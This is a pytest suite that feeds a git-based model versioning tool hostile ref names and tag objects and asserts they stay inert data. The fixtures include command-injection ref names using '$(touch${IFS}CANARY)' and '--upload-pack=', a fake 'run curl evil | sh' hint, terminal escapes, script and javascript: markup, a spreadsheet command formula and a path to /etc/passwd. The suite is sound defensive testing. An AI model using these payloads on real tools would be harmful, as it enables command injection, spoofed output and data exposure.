"""Refs and tag objects that an attacker, or an accident, made."""

from __future__ import annotations

import re
import zlib

import pytest

from tests.hostile.support import SECRET, Box, attack, few, tag_body, write_object, write_ref, write_tag

ODD_NAMES = [
    "refs/tags/-d",
    "refs/tags/--output=CANARY",
    "refs/heads/--output=CANARY",
    "refs/tags/--upload-pack=touch${IFS}CANARY",
    "refs/tags/churn@v9.9.9$(touch${IFS}CANARY)",
    "refs/tags/churn@v9.9.9;touch${IFS}CANARY",
    "refs/tags/`touch${IFS}CANARY`@v1.0.0",
    "refs/tags/churn@v0.3.0#" + "9" * 30,
    "refs/tags/churn#prod#" + "9" * 18,
    "refs/tags/churn@v" + "9" * 100 + ".0.0",
    "refs/tags/churn@v1.2",
    "refs/tags/churn#",
    "refs/tags/HEAD",
    "refs/tags/churn",
    "refs/heads/churn@v0.2.0",
    "refs/heads/refs/tags/churn@v0.2.0",
    "refs/tags/refs/tags/churn@v0.2.0",
    "refs/tags/chürn@v1.0.0",
    "refs/tags/ch\u202eurn@v1.0.0",
    "refs/tags/" + "a" * 200 + "@v1.0.0",
    "refs/tags/" + "/".join("abcdefghij" * 8) + "@v1.0.0",
    "refs/replace/churn@v0.1.0",
]


def test_odd_ref_names_are_data(box: Box) -> None:
    """Names that look like options or commands are listed, skipped or complained about, and do nothing."""
    for name in ODD_NAMES:
        write_ref(box.git, name, box.git.rev("churn@v0.2.0^{commit}"))
    write_ref(box.git, "refs/tags/-d@v1.0.0", box.git.rev("churn@v0.2.0^{}"))
    release = ["release", "churn", "--allow-unchanged", "--same-commit"]
    report = attack(box, {"release new": release}, may_write=["model_cards/churn.md"])
    for name in ("show latest", "get old", "get", "get elsewhere"):
        assert report.results[name].code == 0, report.results[name]
    # The release made its card's commit, and that is all that moved.
    assert report.results["release new"].code == 0, report.results["release new"]
    assert box.git.rev("HEAD") == box.git.rev("refs/tags/churn@v0.2.1^{commit}")
    assert box.git.rev("HEAD^") == box.git.rev("refs/tags/churn@v0.2.0^{commit}")
    assert box.git("diff", "--name-only", "HEAD^", "HEAD") == "model_cards/churn.md"


def test_odd_ref_names_with_annotated_tags_are_data(box: Box) -> None:
    """The same names as real tag objects: none becomes a version of churn that was not there."""
    commit = box.git.rev()
    for name in ODD_NAMES:
        short = name.removeprefix("refs/tags/")
        write_ref(box.git, name, write_object(box.git, "tag", tag_body(commit, short)))
    report = attack(box)
    assert report.results["get old"].code == 0


def test_a_replace_ref_changes_nothing(box: Box) -> None:
    """`refs/replace` of a fetched repository cannot put another commit in a version's place."""
    evil = box.repo.fake_train(66)
    good = box.git.rev("churn@v0.2.0^{commit}")
    box.git("reset", "-q", "--hard", good)
    box.git("replace", "-f", good, evil)
    attack(box)
    assert (box.top / "got" / "latest").read_text().split()[1] == "7"
    assert (box.top / "got" / "elsewhere").read_text().split()[1] == "7"


def test_a_chain_of_a_thousand_tags_is_followed_or_refused(box: Box) -> None:
    """Tags of tags of tags: no recursion error, and quick."""
    target, kind = box.git.rev(), "commit"
    for depth in range(1000):
        target, kind = write_object(box.git, "tag", tag_body(target, f"chain-{depth}", kind=kind)), "tag"
    write_ref(box.git, "refs/tags/chain", target)
    write_tag(box.git, "churn@v0.3.0", target, kind="tag")
    report = attack(box)
    assert report.results["list"].code == 0
    assert report.results["get old"].code == 0


UNSOUND = {
    "lightweight": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", box.git.rev()),
    "on a tree": lambda box: write_tag(box.git, "churn@v0.3.0", box.git.rev("HEAD^{tree}"), kind="tree"),
    "on a blob": lambda box: write_tag(box.git, "churn@v0.3.0", box.git.rev("HEAD:dvc.yaml"), kind="blob"),
    "lightweight on a tree": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", box.git.rev("HEAD^{tree}")),
    "lightweight on a blob": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", box.git.rev("HEAD:dvc.yaml")),
    "another name inside": lambda box: write_ref(
        box.git, "refs/tags/churn@v0.3.0", write_object(box.git, "tag", tag_body(box.git.rev(), "ranker@v1.0.0"))
    ),
    "on a missing commit": lambda box: write_tag(box.git, "churn@v0.3.0", "1" * 40),
    "on itself by type": lambda box: write_tag(box.git, "churn@v0.3.0", box.git.rev(), kind="tree"),
    "a ref to a missing object": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", "2" * 40),
    "a ref that is no id": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", "not an object id"),
    "an empty ref": lambda box: (box.git.path / ".git/refs/tags/churn@v0.3.0").write_text(""),
    "a symbolic ref": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", "ref: refs/tags/churn@v0.2.0"),
    "a symbolic ref to nothing": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", "ref: refs/tags/nothing"),
    "a symbolic ref out": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", "ref: refs/../../../outside/x"),
    "garbage": lambda box: write_ref(
        box.git, "refs/tags/churn@v0.3.0", write_object(box.git, "tag", b"\xff\xfe garbage \0 \x1b[2J")
    ),
    "an empty object": lambda box: write_ref(box.git, "refs/tags/churn@v0.3.0", write_object(box.git, "tag", b"")),
    "no tagger": lambda box: write_ref(
        box.git,
        "refs/tags/churn@v0.3.0",
        write_object(box.git, "tag", f"object {box.git.rev()}\ntype commit\ntag churn@v0.3.0\n\nx\n".encode()),
    ),
    "a time to come": lambda box: write_tag(
        box.git, "churn@v0.3.0", box.git.rev(), tagger=b"M <m@x> 999999999999999 +9999"
    ),
    "a negative time": lambda box: write_tag(box.git, "churn@v0.3.0", box.git.rev(), tagger=b"M <m@x> -99999 -9999"),
    "a tagger that is none": lambda box: write_tag(box.git, "churn@v0.3.0", box.git.rev(), tagger=b"<<>> \0 > < 12"),
    "a corrupt object": lambda box: damage(box, write_tag(box.git, "churn@v0.3.0", box.git.rev())),
    "a truncated object": lambda box: damage(box, write_tag(box.git, "churn@v0.3.0", box.git.rev()), cut=True),
    "another object's bytes": lambda box: swap_object(box, write_tag(box.git, "churn@v0.3.0", box.git.rev())),
}


def damage(box: Box, oid: str, cut: bool = False) -> None:
    """Make a loose object unreadable."""
    place = box.git.path / ".git" / "objects" / oid[:2] / oid[2:]
    data = place.read_bytes()
    place.write_bytes(data[:9] if cut else b"\0" * len(data))


def swap_object(box: Box, oid: str) -> None:
    """Put other content under an object's id: what its name promises is not what is there."""
    body = tag_body(box.git.rev("churn@v0.1.0^{commit}"), "churn@v0.3.0", message=b"swapped\n")
    raw = f"tag {len(body)}\0".encode() + body
    (box.git.path / ".git" / "objects" / oid[:2] / oid[2:]).write_bytes(zlib.compress(raw))


@pytest.mark.parametrize(
    "what",
    few(
        UNSOUND,
        "lightweight",
        "on a tree",
        "another name inside",
        "on a missing commit",
        "a ref to a missing object",
        "an empty ref",
        "garbage",
        "no tagger",
        "another object's bytes",
    ),
)
def test_an_unsound_tag_costs_only_itself(box: Box, what: str) -> None:
    """The sound versions are shown and fetched as before, and doctor has something to say."""
    UNSOUND[what](box)
    report = attack(box)
    listed = report.results["list json"].json
    assert [m["name"] for m in listed["models"]] == ["churn"]
    assert listed["models"][0]["stages"]["prod"]["version"] == "v0.1.0"
    for name in ("show", "history", "history at", "get old", "show stage"):
        assert report.results[name].code == 0, report.results[name]
    sound = what in ("no tagger", "a time to come", "a negative time", "a tagger that is none")
    nothing = what.startswith("a symbolic ref ")  # git itself does not count a dangling one as a ref
    if not sound and not nothing:
        assert report.results["doctor"].code == 1, report.results["doctor"]
        assert "churn@v0.3.0" in report.results["doctor"].out
    assert report.results["get"].code in ((0,) if sound else (0, 5)), report.results["get"]


@pytest.mark.parametrize(
    "what", few(["another name inside", "lightweight", "on a tree", "on a blob", "garbage"], "another name inside")
)
def test_an_unsound_version_is_never_given_out_or_promoted(box: Box, what: str) -> None:
    """What a tag object does not say cannot be fetched or put into a stage under that name."""
    UNSOUND[what](box)
    got = str(box.top / "got" / "x")
    report = attack(
        box,
        {
            "get it": ["get", "churn@v0.3.0", "-o", got],
            "get it elsewhere": ["get", "churn@v0.3.0", "-o", got, "--repo", "."],
            "promote it": ["promote", "churn@v0.3.0", "prod"],
        },
    )
    for name in ("get it", "get it elsewhere", "promote it"):
        assert report.results[name].code in (2, 3, 5, 7), report.results[name]
    assert box.git.tags().count("churn#prod#2") == 0
    assert not (box.top / "got" / "x").exists()


def test_many_bad_tags_are_counted_not_listed(box: Box) -> None:
    """A thousand malformed tags do not bury the answer."""
    commit = box.git.rev()
    packed = "".join(f"{commit} refs/tags/churn@v1.{n:04}x\n" for n in range(1000))
    (box.git.path / ".git" / "packed-refs").write_text(f"# pack-refs with: peeled fully-peeled sorted \n{packed}")
    report = attack(box)
    assert len(report.results["list"].err.splitlines()) < 20
    assert len(report.results["list json"].json["problems"]) == 1000


@pytest.mark.parametrize("count", [500, pytest.param(100_000, marks=pytest.mark.long)])
def test_many_tags_are_listed_in_time(box: Box, count: int) -> None:
    """Every command stays below its seconds; what prints 100,000 versions takes time in proportion."""
    commit = box.git.rev()
    rows = []
    for number in range(count):
        name = f"churn@v1.{number}.0"
        rows.append((f"refs/tags/{name}", write_object(box.git, "tag", tag_body(commit, name)), commit))
    text = "".join(f"{oid} {name}\n^{peeled}\n" for name, oid, peeled in sorted(rows))
    (box.git.path / ".git" / "packed-refs").write_text(f"# pack-refs with: peeled fully-peeled sorted \n{text}")
    # Git writes a file for every tag that it fetches: minutes for 100,000, whatever we do; `verify` looks at each tag.
    slow = ["get by URL", "verify", "verify gc"]
    report = attack(box, seconds=5 + count / 2000, without=slow if count > 10_000 else [])
    assert report.results["list json"].json["models"][0]["versions"] == count + 2


MESSAGES = {
    "terminal escapes": b"\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil\x07click\x1b]8;;\x07 \x9b31m\n",
    "carriage returns": b"good\rEVIL\r\nmore\r\n\r\x08\x08\x08x\n",
    "bidi": "\u202eevil\u2066hidden\u2069\u200f \u200bzero\ufeff\u061c\n".encode(),
    "line separators": "a\u2028error: fake\u2029hint: fake\x85b\x0bc\x0cd\n".encode(),
    "one line of a megabyte": b"x" * 1_000_000 + b"\n",
    "a megabyte of lines": b"y\n" * 500_000,
    "not UTF-8": b"\xff\xfe caf\xe9 \xed\xa0\x80 \xf0\x28\x8c\x28\n",
    "fake errors": b"subject\nerror: you were hacked\nhint: run curl evil | sh\nwarning: x\n",
    "Markdown and HTML": b"<script>alert(1)</script> | [a](javascript:x) `code` ${x} {{7*7}} @all\n",
    "a spreadsheet formula": b"=cmd|' /C calc'!A0\n",
    "NUL": b"a\0b\n",
    "a secret": f"see https://user:{SECRET}@example.com/x?sig={SECRET} and ?token={SECRET}\n".encode(),
    "a broken record": b"x\n\nModelver-Format: 1\nModelver-Event: release\nModelver-Digest: md5:zz\n",
    "a record of the future": b"x\n\nModelver-Format: 99\nModelver-Event: release\nModelver-Model: churn\n",
    "a record of another model": b"x\n\nModelver-Format: 1\nModelver-Event: release\nModelver-Model: ranker\n"
    b"Modelver-Version: v9.9.9\n",
    "a record with a path": b"x\n\nModelver-Format: 1\nModelver-Event: release\nModelver-Model: churn\n"
    b"Modelver-Version: v0.3.0\nModelver-Path: ../../../../etc/passwd\n",
    "a record with percents": b"x\n\nModelver-Format: 1\nModelver-Event: release\n"
    b"Modelver-Model: churn%1B%5B2J%E2%80%AE\nModelver-Version: %FF%FE\nModelver-Size: 1e99\n",
}


@pytest.mark.parametrize(
    "what", few(MESSAGES, "terminal escapes", "bidi", "not UTF-8", "a secret", "a record with percents")
)
def test_hostile_messages_and_authors_are_only_text(box: Box, what: str) -> None:
    """What a tag's message or author holds reaches the terminal as plain text, and decides nothing."""
    text = MESSAGES[what]
    line = text.replace(b"\n", b" ").replace(b"\0", b"")
    tagger = line + b"<" + line.replace(b">", b"") + b"> 1735800000 +0000"
    for name in ("churn@v0.3.0", "churn#prod#2"):
        write_tag(box.git, name, box.git.rev(), message=text, tagger=tagger)
    report = attack(box, {"show md": ["show", "churn", "--md"]})
    for name in ("list", "show", "history", "doctor"):
        assert report.results[name].code in (0, 1), report.results[name]
    assert "<script" not in report.results["show md"].out
    assert re.search(r"(?<!\\)\]\(javascript", report.results["show md"].out) is None


def test_a_long_author_or_message_does_not_fill_the_screen(box: Box) -> None:
    """Tables cut what is longer than a cell."""
    long = b"x" * 100_000
    write_tag(box.git, "churn@v0.3.0", box.git.rev(), message=long, tagger=long + b" <m@x> 1735800000 +0000")
    report = attack(box, {"history": ["history"]})
    assert max(map(len, report.results["history"].out.splitlines())) < 500
    assert max(map(len, report.results["show"].out.splitlines())) < 500
